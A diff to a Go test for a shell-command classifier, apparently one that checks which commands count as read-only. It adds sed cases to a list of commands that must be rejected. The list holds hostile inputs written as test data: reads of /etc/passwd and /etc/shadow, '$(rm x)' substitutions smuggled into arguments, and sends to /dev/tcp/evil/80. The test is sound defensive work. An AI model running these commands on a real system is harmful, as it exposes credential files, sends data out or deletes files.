@@ -42,6 +42,7 @@ func TestReadOnlyCommands(t *testing.T) {
 		"for f in /etc/*; do echo \"$f\"; done", "cat **/*.go", "cat [a-z]*", "grep x $(cat a.txt)", "grep -f /etc/passwd a.txt", "grep -ie root /etc/shadow", "grep -R x .", "diff -r src secret", "diff src secret", "diff a.txt src", "head -c5 /etc/passwd", "tail -n 5 -- /etc/passwd",
 		"wc --files0-from=/etc/passwd", "ls --hide", "cat --unknown a.txt", "go env -w A=b", "go list ./...", "python3 -c 1", "make", "npm test", "curl x", "coproc ls", "ls | tee x", "ls )", "cat <<E\n$(rm x)\nE",
 		"echo a >/dev/tcp/evil/80", "cat </dev/tcp/evil/80", "ps e", "env", "printenv", "history", "sleep 1 & kill $!", "git diff --no-index /etc/passwd a.txt", "test -v 'a[$(rm x)]'", "printf -v x a", "cat a.txt\x00",
+		"sed -n 1p /etc/passwd", "sed -n 1p leak", "sed -n '$p' a.txt ../out/data", "sed -nE 1p -- /etc/passwd",
 	} {
 		if why := reads(dir, line); why == "" {
 			t.Errorf("%q is taken for read-only", line)
